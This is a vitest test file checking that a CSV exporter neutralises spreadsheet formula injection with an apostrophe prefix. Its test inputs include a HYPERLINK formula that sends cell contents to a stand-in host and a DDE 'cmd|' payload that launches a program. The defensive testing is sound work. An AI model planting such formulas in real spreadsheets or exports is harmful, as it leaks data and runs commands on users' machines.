// CSV exports open in Excel and WPS: a cell that starts like a formula must stay text (OWASP's CSV
// injection guidance), while numbers, negative ones included, stay numbers.
import { describe, expect, it } from "vitest";
import { toCsv } from "../../src/forms/csv.js";

const lines = (rows: Parameters<typeof toCsv>[0]) => toCsv(rows).toString("utf8").replace(/^\uFEFF/, "").split("\r\n").slice(0, -1);

describe("CSV export", () => {
  it.each([
    ['=HYPERLINK("http://x.example/?a="&A1,"点此")', `"'=HYPERLINK(""http://x.example/?a=""&A1,""点此"")"`],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A2)", "'@SUM(A1:A2)"],
    ["\t=1", "'\t=1"],
    ["\r=1", `"'\r=1"`],
  ])("neutralises a cell that starts a formula: %j", (cell, expected) => {
    expect(lines([[cell]])).toEqual([expected]);
  });

  it("leaves numbers, negative and decimal ones too, and ordinary text as they are", () => {
    expect(lines([[3, -2, 1.5, "-7", "+86 138", "讲座 =5", "张灵", null]])).toEqual(["3,-2,1.5,-7,'+86 138,讲座 =5,张灵,"]);
  });
});
